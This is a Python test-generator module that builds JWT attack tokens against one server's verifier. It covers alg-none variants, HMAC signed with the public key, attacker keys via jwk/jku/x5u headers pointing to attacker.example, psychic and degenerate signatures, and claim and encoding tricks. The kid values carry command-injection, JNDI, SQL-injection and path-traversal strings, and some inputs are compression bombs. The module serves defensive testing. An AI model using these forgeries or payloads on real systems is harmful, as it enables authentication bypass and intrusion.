"""The known attacks on JSON Web Tokens, made for one server: raw JSON, raw base64, raw signatures, and nothing of
the code under test.

From RFC 8725 and what it cites, from the tests of Authlib and Ory Hydra, and from reports: CVE-2015-9235 (alg
none, HMAC with the public key), CVE-2018-0114 (embedded jwk), CVE-2022-21449 (psychic signatures), CVE-2016-10555.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import zlib
from base64 import urlsafe_b64encode
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.asymmetric.padding import MGF1, OAEP, PSS, PKCS1v15
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.hashes import SHA1, SHA256, SHA384, SHA512
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from gateway.pki import make_ca

Part = str | bytes | Mapping[str, Any]
GONE: Any = ...
"""In a change: the member is left out."""

P256_ORDER = int("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16)


@dataclass(frozen=True)
class Attack:
    """`signed`: by the server's own key. Such a one shows how strictly a token is read; others anybody makes."""

    family: str
    token: str | bytes
    signed: bool = False


@dataclass
class Target:
    """`key` signs what the server signs; `head` and `claims` are those of a token that is good now."""

    key: rsa.RSAPrivateKey
    head: Mapping[str, Any]
    claims: Mapping[str, Any]
    attacker: rsa.RSAPrivateKey = field(
        default_factory=lambda: rsa.generate_private_key(public_exponent=65537, key_size=2048)
    )

    def header(self, **changes: Any) -> dict[str, Any]:
        return _changed(self.head, changes)

    def body(self, **changes: Any) -> dict[str, Any]:
        return _changed(self.claims, changes)

    def sign(self, head: Part, body: Part, key: rsa.RSAPrivateKey | None = None) -> str:
        """A compact JWS over exactly these bytes: a str or bytes is taken as raw JSON."""
        signed = signing_input(head, body)
        return f"{signed}.{b64((key or self.key).sign(signed.encode(), PKCS1v15(), SHA256()))}"

    def good(self) -> str:
        return self.sign(self.head, self.claims)

    def jwk(self, key: rsa.RSAPrivateKey | None = None) -> dict[str, str]:
        numbers = (key or self.key).public_key().public_numbers()
        return {"kty": "RSA", "n": _number(numbers.n), "e": _number(numbers.e)}


def b64(data: bytes) -> str:
    return urlsafe_b64encode(data).rstrip(b"=").decode()


def signing_input(head: Part, body: Part) -> str:
    parts = [value if isinstance(value, str | bytes) else json.dumps(value) for value in (head, body)]
    return ".".join(b64(part.encode() if isinstance(part, str) else part) for part in parts)


def _changed(made: Mapping[str, Any], changes: Mapping[str, Any]) -> dict[str, Any]:
    return {name: value for name, value in {**made, **changes}.items() if value is not GONE}


def _number(value: int) -> str:
    return b64(value.to_bytes((value.bit_length() + 7) // 8, "big"))


Family = Callable[[Target], Iterator[str | bytes]]
FORGED: dict[str, Family] = {}
"""What anybody can make who has the public key, and a token of their own."""
SIGNED: dict[str, Family] = {}
"""What only the server's key can make: none of it is a token all the same."""


def forged(make: Family) -> Family:
    FORGED[make.__name__.replace("_", " ")] = make
    return make


def signed(make: Family) -> Family:
    SIGNED[make.__name__.replace("_", " ")] = make
    return make


def attacks(target: Target) -> Iterator[Attack]:
    for families, by_server in ((FORGED, False), (SIGNED, True)):
        for name, make in families.items():
            for token in make(target):
                yield Attack(name, token, by_server)


# -- forged -----------------------------------------------------------------------------------------------


@forged
def alg_none(target: Target) -> Iterator[str]:
    for spelling in (
        "none",
        "None",
        "NONE",
        "nOnE",
        "",
        "null",
        "none ",
        " none",
        "\u0000none",
        "ｎone",
        "non\u0435",
    ):
        unsigned = signing_input(target.header(alg=spelling), target.claims)
        old = target.good().split(".")[2]
        yield from (f"{unsigned}.", unsigned, f"{unsigned}.{old}", f"{unsigned}.{b64(b'x')}", f"{unsigned}.AA")
    alg: Any
    for alg in (GONE, None, [], {}, 0, False, ["none"], ["RS256", "none"]):
        yield signing_input(target.header(alg=alg), target.claims) + "."
    yield signing_input({}, target.claims) + "."
    yield signing_input({"alg": "none"}, target.claims) + "."


@forged
def hmac_with_the_public_key(target: Target) -> Iterator[str]:
    """The public key, in each spelling an implementation might have it, as an HMAC secret."""
    public, jwk = target.key.public_key(), target.jwk()
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    whole = {**jwk, "kid": target.head["kid"], "use": "sig", "alg": "RS256"}
    for secret in (
        pem,
        pem.strip(),
        pem.replace(b"\n", b"\r\n"),
        b"".join(pem.splitlines()[1:-1]),
        public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        public.public_bytes(Encoding.PEM, PublicFormat.PKCS1),
        public.public_bytes(Encoding.DER, PublicFormat.PKCS1),
        public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
        json.dumps(jwk).encode(),
        json.dumps(whole).encode(),
        json.dumps(whole, sort_keys=True, separators=(",", ":")).encode(),
        jwk["n"].encode(),
        public.public_numbers().n.to_bytes(256, "big"),
        str(target.head["kid"]).encode(),
        b"",
        b"\0" * 32,
    ):
        for alg, digest in (("HS256", "sha256"), ("HS384", "sha384"), ("HS512", "sha512"), ("RS256", "sha256")):
            over = signing_input(target.header(alg=alg), target.claims)
            yield f"{over}.{b64(hmac.new(secret, over.encode(), getattr(hashlib, digest)).digest())}"


@forged
def embedded_and_fetched_keys(target: Target) -> Iterator[str]:
    """The attacker's key, offered in the header or hidden behind the known kid."""
    der = "".join(make_ca("attacker").certificate_pem().decode().splitlines()[1:-1])
    jwk = target.jwk(target.attacker)
    kid = b64(hashlib.sha256(json.dumps(jwk, sort_keys=True, separators=(",", ":")).encode()).digest())
    issuer = str(target.claims["iss"])
    extra: dict[str, Any]
    for extra in (
        {},
        {"jwk": jwk},
        {"jwk": {**jwk, "kid": target.head["kid"]}},
        {"jwk": {"kty": "oct", "k": b64(b"secret")}},
        {"jwk": target.jwk()},
        {"jku": "https://attacker.example/jwks.json"},
        {"jku": f"{issuer}/.well-known/jwks.json"},
        {"jku": f"{issuer}@attacker.example/jwks.json"},
        {"jku": "file:///etc/passwd"},
        {"x5u": "https://attacker.example/cert.pem"},
        {"x5c": [der]},
        {"x5c": ["MIIB"]},
        {"x5t": b64(b"x" * 20)},
        {"x5t#S256": b64(b"x" * 32)},
    ):
        for named in (target.head["kid"], kid, GONE):
            yield target.sign({**target.header(kid=named), **extra}, target.claims, target.attacker)


@forged
def kid_tricks(target: Target) -> Iterator[str]:
    """A key that the attacker chooses by its name."""
    for kid in (
        *(GONE, "", None, 0, -1, 1.5, True, [], {}, ["x"], [target.head["kid"]], {"kid": target.head["kid"]}),
        *(
            "../../../../dev/null",
            "/dev/null",
            "/proc/sys/kernel/randomize_va_space",
            "file:///dev/null",
            "C:\\nul",
        ),
        *(
            "' OR 1=1 --",
            "x' UNION SELECT 'key",
            '"; DROP TABLE keys; --',
            "$(id)",
            "`id`",
            "|id",
            "${jndi:ldap://x}",
        ),
        *(f"{target.head['kid']}{tail}" for tail in ("\x00", " ", "\n", "/", "%00", ".pem", "\u200b")),
        *(f"{front}{target.head['kid']}" for front in (" ", "./", "\ufeff", "\x00")),
        *("https://attacker.example/key", "a" * 5_000, "\u0000", "__proto__", "constructor", "null", "0"),
    ):
        over = signing_input(target.header(kid=kid), target.claims)
        yield target.sign(target.header(kid=kid), target.claims, target.attacker)
        hs = signing_input(target.header(kid=kid, alg="HS256"), target.claims)
        yield f"{hs}.{b64(hmac.new(b'', hs.encode(), hashlib.sha256).digest())}"
        yield f"{over}."


@forged
def psychic_and_degenerate_signatures(target: Target) -> Iterator[str]:
    """CVE-2022-21449 and its like: signatures that a careless verifier takes for any message."""
    order = P256_ORDER.to_bytes(32, "big")
    one = (1).to_bytes(32, "big")
    ecdsa = (
        b"\0" * 64,
        b"\0" * 96,
        b"\0" * 132,
        b"0\x06\x02\x01\x00\x02\x01\x00",
        order + order,
        one + order,
        b"\0",
    )
    for alg in ("ES256", "ES384", "ES512", "ES256K", "EdDSA", "Ed25519", "RS256"):
        over = signing_input(target.header(alg=alg), target.claims)
        for signature in (*ecdsa, b"\xff" * 64, b"\0" * 114):
            yield f"{over}.{b64(signature)}"
    over = signing_input(target.head, target.claims)
    modulus = target.key.public_key().public_numbers().n
    for number in (0, 1, modulus - 1, modulus, modulus + 1, 2**2048 - 1):
        yield f"{over}.{b64(number.to_bytes(256, 'big'))}"
    # RSA with e=1: the signature is the padded digest itself, and a key with that exponent comes in the header.
    for head in (target.header(), target.header(jwk={**target.jwk(), "e": "AQ"})):
        over = signing_input(head, target.claims)
        yield f"{over}.{b64(_padded(over, 256))}"
    # Bleichenbacher 2006: what follows the digest is not looked at, so that with e=3 a cube root would do.
    yield f"{over}.{b64(_padded(over, 128) + bytes(128))}"
    yield f"{over}.{b64((2**680).to_bytes(256, 'big'))}"


def _padded(over: str, size: int) -> bytes:
    """EMSA-PKCS1-v1_5 (RFC 8017 section 9.2) of the SHA-256 of `over`."""
    info = bytes.fromhex("3031300d060960864801650304020105000420") + hashlib.sha256(over.encode()).digest()
    return b"\x00\x01" + b"\xff" * (size - len(info) - 3) + b"\x00" + info


@forged
def other_keys_and_curves(target: Target) -> Iterator[str]:
    """Honest signatures of somebody else, under every algorithm's name."""
    curve = ec.generate_private_key(ec.SECP256R1())
    edwards = ed25519.Ed25519PrivateKey.generate()
    for alg in ("RS256", "ES256", "EdDSA", "Ed25519", "PS256", "HS256", "none"):
        over = signing_input(target.header(alg=alg), target.claims)
        r, s = decode_dss_signature(curve.sign(over.encode(), ec.ECDSA(SHA256())))
        yield f"{over}.{b64(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"
        yield f"{over}.{b64(edwards.sign(over.encode()))}"
        yield f"{over}.{b64(target.attacker.sign(over.encode(), PSS(MGF1(SHA256()), 32), SHA256()))}"
        yield f"{over}.{b64(target.attacker.sign(over.encode(), PKCS1v15(), SHA256()))}"


@forged
def parts_put_together_anew(target: Target) -> Iterator[str]:
    """A good signature under other claims, and other spellings of a good token's bytes."""
    head, body, signature = target.good().split(".")
    for changes in (
        {"sub": "mem_00000000000000000000"},
        {"org": "platform", "roles": ["operator"]},
        {"exp": 4_102_444_800},
    ):
        yield f"{head}.{signing_input('{}', target.body(**changes)).split('.')[1]}.{signature}"
    yield from (
        f"{head}.{body}",
        f"{head}.{body}.",
        f"{head}..{signature}",
        f".{body}.{signature}",
        f"..{signature}",
    )
    yield from (
        f"{head}.{body}.{signature}.",
        f".{head}.{body}.{signature}",
        f"{head}.{body}.{signature}.{signature}",
    )
    yield from (
        f"{head}.{body}.{signature[:-1]}",
        f"{head}.{body}.{signature}A",
        f"{head}.{body}.{signature[::-1]}",
    )
    yield from ("", ".", "..", "...", "a.b.c", "null", "undefined", "{}", "[]", "true", head, f"{head}.", body)


@forged
def encrypted_and_nested(target: Target) -> Iterator[str]:
    """RFC 7516: whoever has the public key can encrypt to it; that says nothing of who they are."""
    key, nonce = b"k" * 32, b"n" * 12
    for head in (
        {"alg": "RSA-OAEP", "enc": "A256GCM", "kid": target.head["kid"]},
        {"alg": "RSA-OAEP", "enc": "A256GCM", "cty": "JWT", "typ": "at+jwt", "kid": target.head["kid"]},
        {"alg": "dir", "enc": "A256GCM", "kid": target.head["kid"]},
        {"alg": "PBES2-HS256+A128KW", "enc": "A256GCM", "p2c": 2**31 - 1, "p2s": "AAAA"},
        {"alg": "RSA-OAEP", "enc": "A256GCM", "zip": "DEF", "kid": target.head["kid"]},
    ):
        protected = b64(json.dumps(head).encode())
        wrapped = target.key.public_key().encrypt(key, OAEP(MGF1(SHA1()), SHA1(), None))
        for plain in (json.dumps(target.claims).encode(), alg_none_token(target), zlib.compress(b"0" * 1_000_000)):
            sealed = AESGCM(key).encrypt(nonce, plain, protected.encode())
            yield ".".join([protected, b64(wrapped), b64(nonce), b64(sealed[:-16]), b64(sealed[-16:])])
    yield target.sign(target.header(cty="JWT"), target.good(), target.attacker)
    yield target.sign(target.head, json.dumps(target.good()), target.attacker)


def alg_none_token(target: Target) -> bytes:
    return (signing_input(target.header(alg="none"), target.claims) + ".").encode()


@forged
def sizes(target: Target) -> Iterator[str]:
    yield "A" * 100_000
    yield f"{b64(b'{}')}." * 1_000
    yield "." * 10_000
    yield target.sign(target.header(kid="k" * 60_000), target.claims, target.attacker)
    yield target.sign(target.head, "[" * 20_000, target.attacker)
    yield signing_input("{" + '"a":{' * 5_000 + "}" * 5_001, target.claims) + ".AA"
    yield target.sign(target.head, target.body(padding="x" * 75_000), target.attacker)


@forged
def bytes_that_are_no_token(target: Target) -> Iterator[str | bytes]:
    good = target.good()
    head, body, signature = good.split(".")
    yield from (f"{good}\x00", f"\x00{good}", f"{head}.{body}\x00.{signature}", f"{good}\u200b", f"\ufeff{good}")
    yield from (good.replace(".", "\u2024"), good.replace(".", "\uff0e"), good.translate({ord("a"): "\u0430"}))
    yield from (
        b"\xff\xfe" + good.encode(),
        good.encode("utf-16"),
        b"\xc0\xae".join([head.encode(), body.encode()]),
    )
    yield from (f"{good},{good}", f"{good}, {good}", f"{good};{good}", f"{good} {good}", f'"{good}"', f"<{good}>")


# -- signed by the server's key, and still no token ----------------------------------------------------------


@signed
def critical_and_unencoded(target: Target) -> Iterator[str]:
    """RFC 7515 section 4.1.11, RFC 7797: what is not understood and critical; and what may not be there."""
    extra: dict[str, Any]
    for extra in (
        {"crit": ["exp"], "exp": 1},
        {"crit": ["b64"], "b64": False},
        {"crit": ["b64"], "b64": True},
        {"crit": ["http://attacker.example/unknown"], "http://attacker.example/unknown": True},
        {"crit": ["alg"]},
        {"crit": []},
        {"crit": "b64"},
        {"crit": None},
        {"b64": False},
        {"zip": "DEF"},
        {"cty": "JWT"},
        {"enc": "A256GCM"},
        {"jwk": target.jwk()},
        {"jku": f"{target.claims['iss']}/.well-known/jwks.json"},
        {"x5c": ["MIIB"]},
        {"nonce": "x"},
        {"iss": target.claims["iss"]},
    ):
        yield target.sign({**target.head, **extra}, target.claims)
    head = b64(json.dumps({**target.head, "b64": False, "crit": ["b64"]}).encode())
    payload = json.dumps(target.claims)
    over = f"{head}.{payload}".encode()
    signature = b64(target.key.sign(over, PKCS1v15(), SHA256()))
    yield from (f"{head}.{b64(payload.encode())}.{signature}", f"{head}..{signature}")
    packed = zlib.compress(payload.encode())[2:-4]
    yield target.sign(target.header(zip="DEF"), packed)


@signed
def types(target: Target) -> Iterator[str]:
    """RFC 8725 section 3.11: a token of another kind, by the same key."""
    for typ in (
        *(
            GONE,
            "",
            None,
            "JWT",
            "jwt",
            "at",
            "at+jwt ",
            " at+jwt",
            "logout+jwt",
            "dpop+jwt",
            "secevent+jwt",
            1,
            True,
        ),
        *(
            ["at+jwt"],
            {"typ": "at+jwt"},
            "application/jwt",
            "at+jwt;x",
            "token-introspection+jwt",
            "client-authentication+jwt",
        ),
    ):
        yield target.sign(target.header(typ=typ), target.claims)


@signed
def algorithms(target: Target) -> Iterator[str]:
    """The right key with another padding or hash, and other names for it."""
    for alg in (
        "RS256",
        "PS256",
        "RS384",
        "RS512",
        "RS1",
        "rs256",
        "RS256 ",
        "RSA-SHA256",
        256,
        ["RS256"],
        None,
        GONE,
    ):
        over = signing_input(target.header(alg=alg), target.claims)
        for padding, digest in (
            (PSS(MGF1(SHA256()), 32), SHA256()),
            (PKCS1v15(), SHA384()),
            (PKCS1v15(), SHA512()),
            (PKCS1v15(), SHA1()),
        ):
            yield f"{over}.{b64(target.key.sign(over.encode(), padding, digest))}"
        if alg != "RS256":
            yield target.sign(target.header(alg=alg), target.claims)


@signed
def duplicate_members(target: Target) -> Iterator[str]:
    """RFC 7519 section 4: readers disagree which of two is meant."""
    good = json.dumps(target.claims)[:-1]
    for name, other in (
        ("exp", 4_102_444_800),
        ("iss", "x"),
        ("aud", "x"),
        ("sub", "x"),
        ("org", "glob"),
        ("roles", ["owner"]),
    ):
        yield target.sign(target.head, f'{good}, "{name}": {json.dumps(other)}}}')
        yield target.sign(target.head, f'{{"{name}": {json.dumps(other)}, {good[1:]}}}')
        yield target.sign(target.head, f'{good}, "{name}": {json.dumps(target.claims[name])}}}')
    yield target.sign(target.head, good + ', "\\u006frg": "glob"}')
    yield target.sign(target.head, good + ', "x": {"a": 1, "a": 2}}')
    head = json.dumps(target.head)[:-1]
    for name in ("alg", "typ", "kid"):
        yield target.sign(f'{head}, "{name}": {json.dumps(target.head[name])}}}', target.claims)
        yield target.sign(f'{{"{name}": "none", {head[1:]}}}', target.claims)


@signed
def times(target: Target) -> Iterator[str]:
    now = int(target.claims["iat"])
    value: Any
    for value in (
        *(
            GONE,
            None,
            True,
            False,
            "never",
            str(now + 900),
            float(now + 900),
            0,
            -1,
            -(2**63),
            1e308,
            10**400,
            2**63,
        ),
        *(
            2**53,
            2**31 - 1 + 2**32,
            [now + 900],
            {},
            now + 86_400,
            now + 7_200,
            now - 1,
            "",
            "2099-01-01T00:00:00Z",
        ),
    ):
        yield target.sign(target.head, target.body(exp=value))
    for value in (GONE, None, True, "0", float(now), -1, 0, now + 900, 10**400, [], now - 100_000, 1e-300):
        yield target.sign(target.head, target.body(iat=value))
    for value in (None, True, "0", 1.5, -1, now + 900, 10**400, [], {}):
        yield target.sign(target.head, target.body(nbf=value))
    yield target.sign(target.head, target.body(iat=now, exp=now))
    marked = json.dumps(target.body(exp=987_654_321))
    for raw in (
        "NaN",
        "Infinity",
        "-Infinity",
        "1e400",
        "1e999",
        f"{now + 600}.0",
        "9" * 5_000,
        "0x7fffffff",
        "+1",
        "1_0",
        "٣",
    ):
        yield target.sign(target.head, marked.replace("987654321", raw))


@signed
def audiences(target: Target) -> Iterator[str]:
    """RFC 8725 section 3.9: not a prefix, not a part, not another's."""
    value: Any
    aud, iss = str(target.claims["aud"]), str(target.claims["iss"])
    for value in (
        *(
            GONE,
            None,
            "",
            [],
            {},
            1,
            True,
            [[aud]],
            {"aud": aud},
            [aud, 1],
            [None],
            aud[:-1],
            aud + "/",
            aud + "/x",
        ),
        *(
            aud + " ",
            " " + aud,
            f"{aud} x",
            f"x{aud}",
            f"{aud},x",
            aud.upper(),
            [aud + "x"],
            iss,
            f"{iss}/scim",
            "*",
        ),
        *(
            ["*"],
            aud.replace("https", "http"),
            aud.replace("://", "://user@"),
            aud + "#",
            aud + "?",
            aud + "\u0000",
        ),
    ):
        yield target.sign(target.head, target.body(aud=value))


@signed
def claims(target: Target) -> Iterator[str]:
    value: Any
    iss = str(target.claims["iss"])
    for value in (
        GONE,
        None,
        "",
        iss + "/",
        iss.replace("https", "http"),
        iss.upper(),
        [iss],
        {},
        1,
        iss + ".attacker.example",
    ):
        yield target.sign(target.head, target.body(iss=value))
    for value in (GONE, None, ["inference"], [], {}, 1, True):
        yield target.sign(target.head, target.body(scope=value))
    for value in (
        GONE,
        None,
        "member",
        "owner admin",
        {},
        {"owner": 1},
        [1],
        [None],
        ["root"],
        ["Owner"],
        [["owner"]],
        ["operator"],
    ):
        yield target.sign(target.head, target.body(roles=value))
    for value in (
        GONE,
        None,
        "",
        1,
        [],
        "acme/..",
        "Acme",
        "acme\x00",
        "acme ",
        "nobody-there",
        "*",
        ["acme"],
        {},
    ):
        yield target.sign(target.head, target.body(org=value))
    for name in ("sub", "client_id", "jti"):
        for value in (GONE, None, "", 1, [], {}, True, "a b", "a\nb", "a\x00", "é", "x" * 300):
            yield target.sign(target.head, target.body(**{name: value}))
    for value in (
        {},
        {"jkt": 1},
        {"jkt": ""},
        {"x5t#S256": "x"},
        {"jwk": target.jwk()},
        "x",
        [],
        None,
        {"jkt": "x" * 43, "a": 1},
    ):
        yield target.sign(target.head, target.body(cnf=value))


@signed
def spellings(target: Target) -> Iterator[str]:
    """RFC 7515 section 2: base64url without padding, and one spelling of it."""
    good = target.good()
    head, body, signature = good.split(".")
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    yield f"{head}.{body}.{signature[:-1]}{letters[letters.index(signature[-1]) ^ 1]}"
    standard = ".".join(part.replace("-", "+").replace("_", "/") for part in (head, body, signature))
    yield standard + ("" if standard != good else "=")
    yield ".".join(part + "=" * (-len(part) % 4 or 4) for part in (head, body, signature))
    yield from (
        f"{head}=.{body}.{signature}",
        f"{head}.{body}.{signature}==",
        f"{head[:5]} {head[5:]}.{body}.{signature}",
    )
    yield from (
        f"{head}.{body[:9]}\t{body[9:]}.{signature}",
        f"{head}.{body}.{signature}%3D",
        good.replace(".", "%2E"),
    )
    yield from (b64(good.encode()), f"{b64(head.encode())}.{body}.{signature}")
    yield from (
        json.dumps({"protected": head, "payload": body, "signature": signature}),
        json.dumps({"payload": body, "signatures": [{"protected": head, "signature": signature}]}),
    )


@signed
def documents(target: Target) -> Iterator[str]:
    """Bytes under a good signature that are not the JSON object they should be."""
    text = json.dumps(target.claims)
    for raw in (
        *(
            "[]",
            "null",
            "1",
            '"x"',
            "{",
            "",
            "{}",
            "[" * 3_000,
            text + " {}",
            text + "x",
            "\ufeff" + text,
            f"[{text}]",
        ),
        *(text.replace('"', "'"), text[:-1] + ",}", f"/**/{text}", text.replace("{", "{\x00", 1)),
    ):
        yield target.sign(target.head, raw)
        if raw not in {text, "{}"}:
            yield target.sign(raw.replace(text, json.dumps(target.head)), target.claims)
    for raw_bytes in (
        b"\xff\xfe{}",
        text.encode("utf-16"),
        text.encode("utf-32"),
        b"\xef\xbb\xbf" + text.encode(),
        text.encode() + b"\xff",
    ):
        yield target.sign(target.head, raw_bytes)
    yield target.sign(target.head, target.good())
    yield target.sign(target.head, target.body(padding="x" * 9_000))
